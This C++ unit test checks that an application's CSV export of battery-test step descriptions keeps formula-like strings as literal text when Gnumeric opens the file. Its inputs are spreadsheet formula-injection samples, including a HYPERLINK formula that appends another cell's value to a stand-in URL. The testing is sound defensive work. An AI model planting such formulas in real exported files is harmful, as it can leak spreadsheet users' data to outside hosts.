// The CSV export read by a real spreadsheet (Gnumeric's ssconvert): step descriptions that
// start like formulas stay text with exactly their characters, and measured values stay
// numbers.
#include "core/base/bytes.h"
#include "core/records/battery_test_file_rules.h"
#include "core/records/battery_test_reader.h"
#include "core/records/battery_test_records.h"
#include "core/records/csv_export.h"
#include "support/long_test_file.h"
#include "support/temp_home.h"

#include <cstdlib>
#include <fstream>
#include <gtest/gtest.h>
#include <map>
#include <regex>
#include <sstream>
#include <string>
#include <sys/wait.h>
#include <vector>

namespace kapsorel::test {
namespace {

struct SheetCell {
    std::string valueType; // Gnumeric's: "60" text, "40" number, empty for a formula
    std::string text;
};

std::string unescapeXml(std::string s)
{
    const std::pair<const char*, const char*> entities[] = {{"&lt;", "<"},   {"&gt;", ">"},  {"&quot;", "\""},
                                                            {"&apos;", "'"}, {"&#9;", "\t"}, {"&amp;", "&"}};
    for (const auto& [from, to] : entities)
        for (std::size_t at = s.find(from); at != std::string::npos; at = s.find(from, at + 1))
            s.replace(at, std::string_view(from).size(), to);
    return s;
}

// The cells of the first sheet by (row, column), as Gnumeric read the CSV.
std::map<std::pair<int, int>, SheetCell> readBySpreadsheet(const TempHome& home, const std::filesystem::path& csv)
{
    const auto book = home / "sheet.gnumeric";
    const auto xml = home / "sheet.xml";
    const std::string command = "timeout 120 ssconvert -T Gnumeric_XmlIO:sax '" + csv.string() + "' '" + book.string() +
                                "' >/dev/null 2>&1 && gzip -dc '" + book.string() + "' > '" + xml.string() + "'";
    const int status = std::system(command.c_str());
    EXPECT_TRUE(WIFEXITED(status) && WEXITSTATUS(status) == 0) << command;
    std::ifstream in(xml);
    std::stringstream all;
    all << in.rdbuf();
    const std::string text = all.str();
    std::map<std::pair<int, int>, SheetCell> cells;
    const std::regex cell(R"re(<gnm:Cell Row="(\d+)" Col="(\d+)"(?: ValueType="(\d+)")?[^>]*>([^<]*)</gnm:Cell>)re");
    for (auto it = std::sregex_iterator(text.begin(), text.end(), cell); it != std::sregex_iterator(); ++it)
        cells[{std::stoi((*it)[1]), std::stoi((*it)[2])}] = {(*it)[3], unescapeXml((*it)[4])};
    return cells;
}

TEST(CsvInASpreadsheet, DescriptionsThatStartLikeFormulasStayText)
{
    TempHome home;
    const std::vector<std::string> descriptions{
        "=2*21", "=HYPERLINK(\"http://x/\"&A2)", "+1+1", "-3+5", "@SUM(1;2)", "\t=1+1", "=1+1,\"q\"", "Nabíjení 5 A",
    };
    const LongTestSpec spec{.samples = 80, .steps = static_cast<std::uint8_t>(descriptions.size())};
    const auto path = home / "t.tst";
    writeLongTestFile(path, spec);

    // The descriptions go into the file's step results as the recorder writes them.
    auto bytes = home.readBytes("t.tst");
    auto head = readTestFileHead(bytes);
    ASSERT_TRUE(head.ok()) << head.error();
    for (std::size_t i = 0; i < descriptions.size(); ++i) {
        StepResult s = head->steps[i];
        s.description = descriptions[i];
        ByteWriter w;
        writeStepResult(w, s);
        std::copy(w.data().begin(), w.data().end(),
                  bytes.begin() + static_cast<std::ptrdiff_t>(test_file_layout::stepResultOffset(i)));
    }
    home.writeBytes("t.tst", bytes);

    const auto result = exportTestCsv(path, home / "t.csv");
    ASSERT_TRUE(result.ok()) << result.error();
    ASSERT_EQ(result->steps, descriptions.size());

    const auto steps = readBySpreadsheet(home, home / "t_steps.csv");
    for (std::size_t i = 0; i < descriptions.size(); ++i) {
        const int row = static_cast<int>(i) + 1;
        ASSERT_TRUE(steps.contains({row, 2})) << descriptions[i];
        const SheetCell& c = steps.at({row, 2});
        EXPECT_EQ(c.valueType, "60") << descriptions[i] << " read as " << c.text;
        EXPECT_EQ(c.text, descriptions[i]);
        EXPECT_EQ(steps.at({row, 0}).valueType, "40") << "step index " << i;
        EXPECT_EQ(steps.at({row, 5}).valueType, "40") << "voltage " << i;
    }

    // The samples: every value is a number, the negative currents included.
    const auto samples = readBySpreadsheet(home, home / "t.csv");
    for (int row = 1; row <= static_cast<int>(spec.samples); ++row)
        for (int col : {0, 2, 3, 4, 5, 6, 7, 8, 27})
            ASSERT_EQ(samples.at({row, col}).valueType, "40") << row << "," << col;
}

} // namespace
} // namespace kapsorel::test
